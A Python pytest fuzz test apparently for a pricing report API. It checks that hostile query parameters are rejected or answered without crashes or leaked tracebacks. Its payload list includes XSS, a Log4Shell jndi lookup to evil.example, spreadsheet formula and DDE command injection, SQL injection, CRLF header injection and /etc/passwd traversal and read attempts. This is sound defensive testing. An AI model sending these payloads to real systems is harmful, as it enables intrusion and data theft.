"""Hostile texts in every field: refused by name or answered, never a crash, a trace or an echo."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from calculators.scenario import fields
from report import api, links

TEXTS = (
    "<script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    '#let x = read("/etc/passwd")',
    "$\\input{/etc/passwd}$",
    "\x00",
    "\ud7ff\U0010ffff",
    "\u202e\u2066evil",
    "１２３",
    "1_000",
    "1e309",
    "-0",
    "0x10",
    "NaN",
    "inf",
    "[](javascript:alert(1))",
    ":material/bolt:",
    "%00%0d%0aSet-Cookie: a=b",
    "' OR 1=1 --",
    "a" * 5_000,
    ",".join(["x"] * 400),
    "\\" * 50,
)
NAMES = (
    *fields(),
    "v",
    "edition",
    "price_date",
    "method",
    "was",
    "candidates",
    "break_even",
    "axis",
    "values",
    "a",
    "b",
    "x",
    "y",
    "n",
    "low",
    "price.",
    "price.a/b/c",
    "discount.x",
    "fixed.owned",
    "assume.pue",
    "nonsense",
)
PATHS = (
    f"{links.COMPARE_API}?candidates=best&",
    f"{links.SWEEP_API}?",
    f"{links.BREAK_EVEN_API}?",
    f"{links.MAP_API}?",
    f"{links.PAYBACK_API}?",
    f"{links.REPORT}?",
)
SAMPLE, SOAK = 60, 2_000
TRACES = ("Traceback", "site-packages", 'File "', "/etc/passwd:")


@pytest.fixture(scope="module")
def client() -> Iterator[TestClient]:
    app = Starlette(routes=api.ROUTES, exception_handlers={500: api.failed})
    with TestClient(app, raise_server_exceptions=False) as found:
        yield found


def hostile(seed: int) -> str:
    dice = random.Random(seed)
    name = dice.choice((*NAMES, dice.choice(TEXTS)))
    text = dice.choice(TEXTS).encode("utf-8", "replace")
    return f"{dice.choice(PATHS)}{quote(name)}={quote(text)}"


def ask(client: TestClient, path: str) -> None:
    found = client.get(path)
    assert found.status_code in (200, 422), path
    kind = found.headers["content-type"]
    assert kind in ("application/json", "application/pdf")
    if kind == "application/json":
        body = json.loads(found.content)
        assert found.status_code == 200 or body["details"], path
        assert not any(trace in found.text for trace in TRACES), path


@pytest.mark.parametrize("part", range(4))
def test_hostile_texts_are_refused_or_answered(client: TestClient, part: int) -> None:
    for seed in range(part, SAMPLE, 4):
        ask(client, hostile(seed))


@pytest.mark.soak
@pytest.mark.parametrize("part", range(20))
def test_two_thousand_hostile_texts(client: TestClient, part: int) -> None:
    for seed in range(part, SOAK, 20):
        ask(client, hostile(seed))
